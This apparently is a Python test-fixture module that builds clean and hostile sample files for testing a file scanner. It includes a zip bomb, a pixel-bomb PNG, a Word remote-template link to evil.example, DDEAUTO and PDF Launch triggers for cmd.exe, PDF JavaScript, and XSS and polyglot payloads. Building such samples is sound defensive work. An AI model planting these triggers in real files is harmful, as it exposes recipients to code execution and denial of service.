"""Files as messages carry them, clean and hostile, made by the libraries and formats that such files have."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo


def picture(kind: str, size: tuple[int, int] = (40, 30), *, frames: int = 1, **options: object) -> bytes:
    images = [Image.new("RGB", size, (60 * index, 20, 120)) for index in range(frames)]
    out = io.BytesIO()
    if frames > 1:
        options |= {"save_all": True, "append_images": images[1:], "duration": 100}
    images[0].save(out, kind, **options)
    return out.getvalue()


def with_exif(*, place: bool = False, turned: bool = False) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Camera"
    if turned:
        exif[0x0112] = 6
    if place:
        exif.get_ifd(0x8825)[1] = "N"
        exif.get_ifd(0x8825)[2] = (52.0, 31.0, 0.0)
    return picture("JPEG", exif=exif)


def with_words() -> bytes:
    info = PngInfo()
    info.add_text("Author", "Jane")
    return picture("PNG", pnginfo=info)


def huge_png(width: int = 30_000, height: int = 30_000) -> bytes:
    """A picture of one colour: some 100 kB that are 900 million pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    rows = bytes((width // 8 + 1) * 1000)
    packed = b"".join(packer.compress(rows) for _ in range(height // 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def archive(entries: dict[str, bytes], *, encrypted: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in entries.items():
            file.writestr(name, data)
    data = bytearray(out.getvalue())
    if encrypted:
        data[6] |= 1
        data[data.find(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file, file.open("zeros", "w") as entry:
        for _ in range(300):
            entry.write(bytes(1_000_000))
    return out.getvalue()


def office(document: bytes = b"<w:document/>", **entries: bytes) -> bytes:
    """A Word document; ``__`` in names stands for the slash."""
    named = {name.replace("__", "/"): data for name, data in entries.items()}
    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": document} | named)


TEMPLATE = (
    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def ole(*streams: str, encrypted: bool = False) -> bytes:
    """The beginning of a compound file with the names of its streams, as a reader of the directory meets them."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0")
    fib = (b"\xec\xa5" + bytes(9) + bytes([1 if encrypted else 0])).ljust(512, b"\0")
    entries = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in streams)
    return header + fib + entries


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda _: None, **options: object) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(out, **options)
    return out.getvalue()


def with_script(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.OpenAction = document.make_indirect(action)


def with_launch(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    document.pages[0].obj.AA = pikepdf.Dictionary(O=action)


def with_file(document: pikepdf.Pdf) -> None:
    document.attachments["a.txt"] = pikepdf.AttachedFileSpec(document, b"x", filename="a.txt")


FILES: dict[str, Callable[[], bytes]] = {
    "png": cache(lambda: picture("PNG")),
    "jpeg": cache(lambda: picture("JPEG")),
    "gif": cache(lambda: picture("GIF")),
    "webp": cache(lambda: picture("WEBP")),
    "dot": cache(lambda: picture("PNG", (1, 1))),
    "animated gif": cache(lambda: picture("GIF", frames=2)),
    "animated png": cache(lambda: picture("PNG", frames=2)),
    "animated webp": cache(lambda: picture("WEBP", frames=2)),
    "short png": cache(lambda: picture("PNG", (400, 400))[:300]),
    "huge png": cache(huge_png),
    "exif": cache(with_exif),
    "place": cache(lambda: with_exif(place=True)),
    "turned": cache(lambda: with_exif(turned=True)),
    "words": cache(with_words),
    "zip": cache(lambda: archive({"a.txt": b"x"})),
    "encrypted zip": cache(lambda: archive({"a.txt": b"x"}, encrypted=True)),
    "bomb": cache(bomb),
    "cut zip": cache(lambda: archive({"a.txt": b"x" * 100})[:60]),
    "docx": cache(office),
    "docm": cache(lambda: office(**{"word__vbaProject.bin": b"x"})),
    "docx with object": cache(lambda: office(word__embeddings__a=b"x")),
    "docx with template": cache(lambda: office(**{"word___rels__settings.xml.rels": TEMPLATE})),
    "docx with dde": cache(lambda: office(b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")),
    "doc": cache(lambda: ole("Root Entry", "WordDocument")),
    "doc with macros": cache(lambda: ole("Root Entry", "WordDocument", "_VBA_PROJECT")),
    "encrypted doc": cache(lambda: ole("Root Entry", "WordDocument", encrypted=True)),
    "encrypted docx": cache(lambda: ole("Root Entry", "EncryptedPackage")),
    "xls": cache(lambda: ole("Root Entry", "Workbook")),
    "pdf": cache(pdf),
    "pdf with script": cache(lambda: pdf(with_script)),
    "packed pdf with script": cache(
        lambda: pdf(with_script, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    ),
    "pdf with launch": cache(lambda: pdf(with_launch)),
    "pdf with file": cache(lambda: pdf(with_file)),
    "encrypted pdf": cache(lambda: pdf(encryption=pikepdf.Encryption(user="u", owner="o", R=6))),
    "short pdf": lambda: b"%PDF-1.7\n1 0 obj\n",
    "late pdf": cache(lambda: b"x" * 100 + pdf()),
    "text": lambda: b"Two years of warranty\n",
    "html": lambda: b"<!DOCTYPE html><p>Hello</p>",
    "fragment": lambda: b"<div><img src=x onerror=alert(1)></div>",
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
    "program": lambda: b"MZ" + bytes(200),
    "script": lambda: b"#!/bin/sh\nexit\n",
    "rar": lambda: b"Rar!\x1a\x07\x00" + bytes(100),
    "rtf with object": lambda: b"{\\rtf1{\\object\\objemb{\\*\\objdata 01050000}}}",
    "gif and archive": cache(lambda: picture("GIF") + archive({"a.jar": b"x"})),
    "gif and script": lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)",
    "jpeg with page": cache(lambda: picture("JPEG", comment=b"<script>alert(1)</script>")),
    "bytes": lambda: bytes(range(256)),
    "nothing": lambda: b"",
}
"""How each file is made, by what cases call it."""
